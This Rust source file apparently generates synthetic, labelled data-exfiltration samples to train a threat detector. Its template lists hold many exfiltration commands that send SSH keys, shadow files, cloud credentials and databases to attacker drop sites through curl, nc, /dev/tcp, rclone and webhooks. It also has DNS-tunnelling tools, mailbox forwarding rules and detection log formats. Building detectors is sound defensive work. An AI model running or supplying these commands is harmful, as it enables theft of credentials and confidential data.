//! Data exfiltration: uploads of sensitive files with curl/wget/PowerShell, scp/rsync/rclone to
//! outside hosts, archive-then-upload chains, cloud-storage and paste/webhook uploads, DNS and
//! ICMP tunnelling, mail forwarding rules, and the logs that see it (DLP alerts, large outbound
//! transfers, tunnelling-looking DNS queries).

use super::context::{self, Os};
use super::encode;
use super::vocab::alnum_lower;
use super::{Generator, Rng};
use crate::threat::ThreatType;
use serde_json::json;

pub const GENERATORS: &[Generator] = &[
    Generator { name: "exfil_unix", label: ThreatType::DataExfiltration, weight: 26, make: exfil_unix },
    Generator { name: "exfil_windows", label: ThreatType::DataExfiltration, weight: 18, make: exfil_windows },
    Generator { name: "exfil_dns", label: ThreatType::DataExfiltration, weight: 12, make: exfil_dns },
    Generator { name: "exfil_mail_rules", label: ThreatType::DataExfiltration, weight: 8, make: exfil_mail_rules },
    Generator { name: "exfil_logs", label: ThreatType::DataExfiltration, weight: 16, make: exfil_logs },
];

/// Slots of the exfiltration grammars: where data goes and what is taken.
pub fn slot(name: &str, rng: &mut Rng) -> Option<String> {
    let v = match name {
        "drop_site" => drop_site(rng),
        "secret_unix" => sensitive_unix(rng),
        "secret_win" => sensitive_windows(rng),
        _ => return None,
    };
    Some(v)
}

/// Where stolen data goes: attacker hosts and the public services abused for it.
fn drop_site(rng: &mut Rng) -> String {
    rng.fill("««c2»|«c2»|«alnum».ngrok.io|«alnum».ngrok-free.app|transfer.sh|«alnum».trycloudflare.com|file.io|0x0.st|temp.sh|«alnum».requestcatcher.com|«alnum».oast.fun|webhook.site|«alnum».burpcollaborator.net|pastebin.com|paste.ee|anonfiles.com|gofile.io|«alnum».serveo.net»")
}

fn sensitive_unix(rng: &mut Rng) -> String {
    rng.fill("«/etc/passwd|/etc/shadow|~/.ssh/id_rsa|/root/.ssh/id_rsa|/home/«user»/.ssh/id_ed25519|~/.aws/credentials|/var/www/html/wp-config.php|/var/www/.env|/opt/app/config/database.yml|/home/«user»/.bash_history|/var/lib/mysql/«word».sql|/tmp/«alnum».tar.gz|/var/backups/«word».sql.gz|customers.csv|/data/«word»/export.csv|~/.kube/config|/etc/kubernetes/admin.conf|~/.gnupg/secring.gpg|~/.config/google-chrome/Default/Login Data|/root/.docker/config.json|/srv/«word»/users.db»")
}

fn sensitive_windows(rng: &mut Rng) -> String {
    rng.fill("«C:\\Users\\«user»\\Documents|C:\\Users\\«user»\\Desktop\\«file»|C:\\Users\\«user»\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data|C:\\Users\\«user»\\Documents\\«word».kdbx|\\\\«winhost»\\«Finance|HR|Legal|Shares»\\«file»|C:\\Windows\\NTDS\\ntds.dit|C:\\Temp\\lsass.dmp|C:\\ProgramData\\«alnum».zip|D:\\Shares\\«Finance|HR|Engineering»|C:\\Users\\Public\\«alnum».7z|C:\\Windows\\Temp\\sam.save»")
}

const UNIX_EXFIL: &[&str] = &[
    "curl -X POST -F \"file=@FILE\" http«s|»://SITE/«upload|u|up.php|files»",
    "curl -s -T FILE «ftp|https»://SITE/«alnum»",
    "curl --data-binary @FILE https://SITE/«alnum»",
    "curl -d \"$(cat FILE | base64 -w0)\" http://SITE/«c|collect|data»",
    "curl -F \"document=@FILE\" https://api.telegram.org/bot«num»:«alnum»«alnum»/sendDocument?chat_id=«num»",
    "curl -H \"Content-Type: application/json\" -d \"{\\\"content\\\": \\\"$(cat FILE)\\\"}\" https://discord.com/api/webhooks/«num»/«alnum»«alnum»",
    "curl -F 'file=@FILE' https://«transfer.sh|0x0.st|file.io|temp.sh»",
    "wget --post-file=FILE http://SITE:«lport»/",
    "wget --method=PUT --body-file=FILE https://SITE/«alnum»",
    "scp «-r |»FILE «user»@SITE:«/tmp|~|/data|/loot»/",
    "scp -P «hiport» FILE root@SITE:/root/«alnum»",
    "rsync -avz «-e 'ssh -p «hiport»' |»FILE «user»@SITE:«/loot|/data|/tmp»/",
    "rclone copy FILE «mega|remote|gdrive|dropbox|s3exfil»:«backup|loot|«alnum»» «--transfers 16|--no-check-certificate|»",
    "rclone sync /home «mega|remote»:«alnum» --exclude '*.mp4'",
    "tar czf - FILE | ssh «user»@SITE \"cat > /tmp/«alnum».tgz\"",
    "tar -czf /tmp/.«alnum».tgz /home /etc && curl -T /tmp/.«alnum».tgz ftp://SITE --user «user»:«word»",
    "zip -r -P «word»«n99» /tmp/«alnum».zip FILE && curl -F f=@/tmp/«alnum».zip https://SITE",
    "7z a -p«word»«n99» /tmp/«alnum».7z FILE && scp /tmp/«alnum».7z «user»@SITE:",
    "nc SITE «lport» < FILE",
    "cat FILE | nc SITE «lport»",
    "cat FILE > /dev/tcp/SITE/«lport»",
    "openssl s_client -quiet -connect SITE:«lport» < FILE",
    "mysqldump -u root -p«word» --all-databases | gzip | curl -T - https://SITE/«alnum».sql.gz",
    "pg_dumpall -U postgres | nc SITE «lport»",
    "aws s3 cp FILE s3://«alnum»-«exfil|loot|dump|backup-x»/ --recursive",
    "aws s3 sync /var/www s3://«alnum»«n99»/ --no-sign-request",
    "gsutil cp -r FILE gs://«alnum»-«data|loot»/",
    "az storage blob upload --account-name «alnum» --container-name «loot|x» --file FILE --name «alnum»",
    "mega-put FILE /«alnum»",
    "smbclient //SITE/«share|loot» -U «user» -c 'put FILE'",
    "ftp -n SITE <<< $'user «user» «word»\\nput FILE\\nbye'",
    "sftp «user»@SITE <<< 'put FILE'",
    "socat -u file:FILE tcp-connect:SITE:«lport»",
    "python3 -c \"import requests;requests.post('https://SITE/u',files={'f':open('FILE','rb')})\"",
    "xxd -p FILE | while read l; do ping -c 1 -p $l SITE; done",
    "split -b 512k FILE /tmp/p_ && for f in /tmp/p_*; do curl -F x=@$f https://SITE/; done",
    "git clone «https|ssh»://«github.com|gitlab.com»/«alnum»/«alnum».git /tmp/x && cp -r FILE /tmp/x && cd /tmp/x && git add . && git commit -m u && git push",
    "find /home -name '*.pdf' -o -name '*.docx' | tar -czf - -T - | curl -X PUT --data-binary @- https://SITE/«alnum»",
    "cd / && python3 -m http.server «lport»",
    "busybox httpd -f -p «lport» -h /",
    "php -S 0.0.0.0:«lport» -t /",
    "ruby -run -e httpd / -p «lport»",
    "finger \"$(base64 -w0 FILE)\"@SITE",
    "whois -h SITE -p «lport» \"$(cat FILE)\"",
    "ab -p FILE http://SITE/«alnum»",
    "tftp SITE -c put FILE",
    "gdb -nx -ex 'python import urllib.request; urllib.request.urlopen(\"http://SITE\", open(\"FILE\",\"rb\").read())' -ex quit",
    "lua -e 'local f=io.open(\"FILE\",\"rb\"); local d=f:read(\"*a\"); local s=require(\"socket\").tcp(); s:connect(\"SITE\",«lport»); s:send(d)'",
    "zsh -c 'zmodload zsh/net/tcp; ztcp SITE «lport»; cat FILE >&$REPLY'",
    "node -e 'require(\"fs\").createReadStream(\"FILE\").pipe(require(\"http\").request({host:\"SITE\",method:\"POST\"}))'",
    "openssl s_client -quiet -connect SITE:«lport» < FILE",
    "ssh «user»@SITE \"cat > /tmp/«alnum»\" < FILE",
];

fn exfil_unix(rng: &mut Rng) -> String {
    let t = rng.pick(UNIX_EXFIL);
    let file = rng.fill("«secret_unix»");
    let site = rng.fill("«drop_site»");
    let cmd = rng.fill(&t.replace("FILE", &file).replace("SITE", &site));
    let cmd = if rng.chance(8) { encode::shell_obfuscate(&cmd, rng) } else { cmd };
    if rng.chance(40) {
        context::command(rng, &cmd, Os::Linux)
    } else {
        cmd
    }
}

const WINDOWS_EXFIL: &[&str] = &[
    "Invoke-WebRequest -Uri https://SITE/«upload|u» -Method POST -InFile FILE",
    "Invoke-RestMethod -Uri http://SITE:«lport»/ -Method Put -InFile FILE",
    "(New-Object System.Net.WebClient).UploadFile('http://SITE/«u|upload.php»', 'FILE')",
    "[System.Net.WebClient]::new().UploadFile('https://SITE/«alnum»', 'FILE')",
    "Compress-Archive -Path FILE -DestinationPath C:\\Users\\Public\\«alnum».zip; Invoke-WebRequest -Uri https://SITE -Method Post -InFile C:\\Users\\Public\\«alnum».zip",
    "Send-MailMessage -From «user»@«domain» -To «alnum»@«gmail.com|proton.me|outlook.com|yandex.ru» -Subject «report|data|«alnum»» -Attachments FILE -SmtpServer smtp.«gmail.com|mail.ru»",
    "curl.exe -F \"file=@FILE\" https://SITE/",
    "certutil -encode FILE C:\\Temp\\«alnum».txt && curl -d @C:\\Temp\\«alnum».txt http://SITE/",
    "rclone.exe copy \"FILE\" mega:«alnum» -q --ignore-existing --auto-confirm --multi-thread-streams 12 --transfers 12",
    "rclone.exe copy FILE «remote|ftp1|gdrive»:«alnum» --config C:\\ProgramData\\rclone.conf",
    "pscp.exe -r FILE «user»@SITE:/«loot|tmp»/",
    "bitsadmin /transfer «alnum» /upload /priority high http://SITE/«alnum» FILE",
    "7z.exe a -t7z -p«word»«n99» -mhe=on C:\\Users\\Public\\«alnum».7z FILE",
    "rar.exe a -hp«word» -m5 C:\\ProgramData\\«alnum».rar FILE",
    "WinSCP.com /command \"open sftp://«user»:«word»@SITE/\" \"put FILE\" \"exit\"",
    "ftp -s:C:\\Temp\\«alnum».txt SITE",
    "net use \\\\SITE\\«share|loot» /user:«user» «word» & copy FILE \\\\SITE\\«share|loot»\\",
    "robocopy FILE \\\\SITE\\«loot|c$\\tmp» /E /Z",
    "megacmd put FILE /«alnum»",
    "azcopy copy \"FILE\" \"https://«alnum».blob.core.windows.net/«loot|x»?sv=«alnum»&sig=«alnum»\" --recursive",
    "$b=[Convert]::ToBase64String([IO.File]::ReadAllBytes('FILE'));Invoke-WebRequest -Uri https://SITE -Method Post -Body $b",
    "Get-Content FILE | ForEach-Object { Resolve-DnsName \"$([Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($_))).SITE\" }",
];

fn exfil_windows(rng: &mut Rng) -> String {
    let t = rng.pick(WINDOWS_EXFIL);
    let file = rng.fill("«secret_win»");
    let site = rng.fill("«drop_site»");
    let cmd = rng.fill(&t.replace("FILE", &file).replace("SITE", &site));
    if rng.chance(45) {
        context::command(rng, &cmd, Os::Windows)
    } else {
        cmd
    }
}

const DNS_TUNNEL_COMMANDS: &[&str] = &[
    "for i in $(cat «/etc/passwd|/etc/shadow|secrets.txt» | base64 -w 60); do dig +short $i.«evil_domain»; done",
    "cat «/etc/passwd|data.txt» | xxd -p -c 16 | while read l; do nslookup $l.«evil_domain»; done",
    "dnscat2 --dns server=«evil_domain»,port=53 --secret=«alnum»",
    "iodine -f -P «word» «ip» t.«evil_domain»",
    "dnscat --dns domain=«evil_domain»",
    "./dnsteal.py «ip» -z -s 4 -b 57",
    "powershell -c \"Get-Content «C:\\Temp\\«alnum».txt|C:\\Users\\«user»\\Documents\\«file»» | % { Resolve-DnsName ($_ + '.«evil_domain»') -Type TXT }\"",
    "Invoke-DNSExfiltrator -i C:\\Temp\\«alnum».zip -d «evil_domain» -p «word» -doh cloudflare",
];

fn exfil_dns(rng: &mut Rng) -> String {
    let data = alnum_lower(rng, 20, 60);
    let hexdata = encode::hex(&rng.fill("««user»:«word»«n99»|«fqdn»|«file»»"));
    let chunk = if rng.chance(50) { data } else { hexdata.chars().take(62).collect() };
    let tunnel = rng.fill("««alnum».«evil_domain»|t.«evil_domain»|dns.«evil_domain»|«alnum».dnslog.cn|«alnum».oast.pro|«alnum».burpcollaborator.net»");
    let qname = format!("{chunk}.{}.{tunnel}", rng.range(0, 999));
    match rng.below(7) {
        0..=1 => format!("{} client {}#{}: query: {qname} IN {} + ({})", rng.fill("«n31»-«month»-«year» «time».«n99»«n9»"), rng.fill("«priv_ip»"), rng.fill("«hiport»"), rng.pick(&["TXT", "A", "CNAME", "MX", "NULL", "AAAA"]), rng.fill("«priv_ip»")),
        2 => json!({"ts": rng.fill("«ts_epoch_ms»"), "id.orig_h": rng.fill("«priv_ip»"), "query": qname, "qtype_name": rng.pick(&["TXT", "NULL", "A", "CNAME"]), "rcode_name": "NOERROR", "answers": [alnum_lower(rng, 40, 40)]}).to_string(),
        3 => rng.fill_one(DNS_TUNNEL_COMMANDS),
        4 => format!("nslookup -type=txt {qname}"),
        5 => format!("{} DNS: {} queries for subdomains of {tunnel} from {} in {} minutes, avg label entropy {}.{} (possible DNS tunnelling)", rng.fill("«ts_iso»"), rng.range(300, 90000), rng.fill("«priv_ip»"), rng.range(1, 60), rng.range(3, 5), rng.range(0, 9)),
        _ => format!("dig +short {qname} TXT"),
    }
}

fn exfil_mail_rules(rng: &mut Rng) -> String {
    let external = rng
        .fill("«alnum»«n99»@«gmail.com|outlook.com|proton.me|protonmail.com|yandex.ru|mail.ru|gmx.com|«evil_domain»»");
    let mailbox = rng.fill("«email»");
    match rng.below(6) {
        0 => format!("New-InboxRule -Name \"{}\" -Mailbox {mailbox} -ForwardTo {external} -MarkAsRead $true{}", rng.fill("«.|..|Sync|RSS|«alnum»»"), rng.fill("«| -DeleteMessage $true| -SubjectOrBodyContainsWords \"invoice\",\"payment\",\"wire\"»")),
        1 => format!("Set-Mailbox -Identity {mailbox} -ForwardingSmtpAddress smtp:{external} -DeliverToMailboxAndForward $true"),
        2 => json!({"CreationTime": rng.fill("«ts_iso»"), "Operation": rng.pick(&["New-InboxRule", "Set-InboxRule", "UpdateInboxRules", "Set-Mailbox"]), "UserId": mailbox, "ClientIP": rng.fill("«pub_ip»"),
                    "Parameters": [{"Name": "ForwardTo", "Value": external}, {"Name": "Name", "Value": rng.fill("«.|..|«alnum»»")}]}).to_string(),
        3 => format!("{} O365 alert: Suspicious email forwarding rule created by {mailbox}: all messages forwarded to external address {external}", rng.fill("«ts_iso»")),
        4 => format!("New-TransportRule -Name \"{}\" -SentToScope NotInOrganization -BlindCopyTo {external}", rng.fill("«Compliance|Journal|«alnum»»")),
        _ => format!("Google Workspace audit: user {mailbox} added auto-forwarding to {external} (email_forwarding_out_of_domain)"),
    }
}

fn exfil_logs(rng: &mut Rng) -> String {
    let src = rng.fill("«priv_ip»");
    let dst = rng.fill("«pub_ip»");
    let user = rng.fill("«user»");
    match rng.below(8) {
        0 => format!("{} DLP policy \"{}\" matched: {} {} uploaded to {} by {user} from {src}; action={}", rng.fill("«ts_iso»"), rng.fill("«PCI|PII|Source Code|Confidential»"), rng.range(50, 90_000), rng.pick(&["credit card numbers", "social security numbers", "customer records", "source files", "confidential documents"]), rng.fill("«drive.google.com|dropbox.com|mega.nz|wetransfer.com|pastebin.com|«evil_domain»»"), rng.pick(&["block", "alert", "allow"])),
        1 => format!("{} firewall: large outbound transfer {} GB from {src} to {dst}:{} ({}) in {} min, destination first seen today", rng.fill("«ts_iso»"), rng.range(1, 300), rng.pick(&["443", "22", "21", "8443", "53"]), rng.pick(&["rare destination", "unsanctioned cloud storage", "hosting provider", "Tor exit node"]), rng.range(3, 600)),
        2 => json!({"ts": rng.fill("«ts_epoch_ms»"), "id.orig_h": src, "id.resp_h": dst, "id.resp_p": 443, "proto": "tcp", "service": "ssl", "duration": rng.range(300, 90_000), "orig_bytes": rng.range(500_000_000, 90_000_000_000u64), "resp_bytes": rng.range(10_000, 900_000), "conn_state": "SF", "note": "exfil: orig_bytes >> resp_bytes"}).to_string(),
        3 => format!("{}    {} {src} TCP_MISS/200 {} {} https://{}/{} {user} HIER_DIRECT/{dst} application/octet-stream", rng.fill("«ts_epoch_ms»"), rng.range(1000, 900_000), rng.range(100, 9000), rng.pick(&["POST", "PUT"]), drop_site(rng), rng.fill("«upload|u|api/upload|files|«alnum»»")),
        4 => format!("{} CloudTrail: GetObject x{} on s3://{} by {} from {dst} (unusual volume); then PutBucketPolicy making it public", rng.fill("«ts_iso»"), rng.range(1000, 900_000), rng.fill("«word»-«prod|backup|data»"), rng.fill("«user»")),
        5 => format!("{} EDR: {} read {} files and sent {} MB to {} (possible data staging and exfiltration)", rng.fill("«ts_iso»"), rng.pick(&["rclone.exe", "7z.exe", "curl", "powershell.exe", "megacmd", "WinSCP.exe", "python3"]), rng.range(500, 90_000), rng.range(100, 90_000), rng.fill("«drop_site»")),
        6 => format!("{} Office365 audit: FileDownloaded x{} by {user}@{} from SharePoint site /sites/{} within {} minutes via {}", rng.fill("«ts_iso»"), rng.range(300, 50_000), rng.fill("«domain»"), rng.fill("«Finance|HR|Legal|RnD»"), rng.range(3, 90), rng.pick(&["OneDriveSync", "rclone", "python-requests", "unknown client"])),
        _ => format!("{} USB: {user} copied {} files ({} GB) from \\\\{}\\{} to removable drive E: ({})", rng.fill("«ts_iso»"), rng.range(100, 90_000), rng.range(1, 200), rng.fill("«winhost»"), rng.fill("«Finance|HR|Engineering»"), rng.pick(&["SanDisk Ultra", "Kingston DataTraveler", "unknown device"])),
    }
}
